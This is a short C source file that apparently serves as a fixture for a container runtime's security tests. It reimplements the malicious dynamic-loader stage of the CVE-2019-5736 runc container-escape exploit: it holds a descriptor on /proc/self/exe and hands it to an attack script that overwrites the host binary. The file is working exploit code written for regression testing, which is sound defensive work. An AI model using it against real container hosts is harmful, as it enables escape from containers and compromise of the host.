/* The image's own program interpreter, as the CVE-2019-5736 exploit shipped it: the kernel runs
 * /lib64/ld-linux-x86-64.so.2 of the container for every dynamically linked program executed in
 * it, including a host binary reached through /proc/self/exe. This one keeps an O_PATH descriptor
 * on /proc/self/exe, then executes `/bin/sh /attack.sh <fd>`: the script writes through
 * /proc/self/fd/<fd> once the binary is no longer running. No libc: raw x86-64 system calls,
 * built with -nostdlib -static-pie by tests/security/test_exe.py. */
#define O_PATH 010000000
#define SYS_open 2
#define SYS_execve 59
#define SYS_exit 60

static long sys3(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

__attribute__((force_align_arg_pointer, noreturn)) void _start(void)
{
    long fd = sys3(SYS_open, (long)"/proc/self/exe", O_PATH, 0);
    char num[8] = "-1";
    if (fd >= 0 && fd < 100) {
        int i = 0;
        if (fd >= 10)
            num[i++] = (char)('0' + fd / 10);
        num[i++] = (char)('0' + fd % 10);
        num[i] = '\0';
    }
    const char *argv[] = {"sh", "/attack.sh", num, 0};
    const char *envp[] = {"PATH=/bin", 0};
    sys3(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp);
    sys3(SYS_exit, 127, 0, 0);
    for (;;)
        ;
}
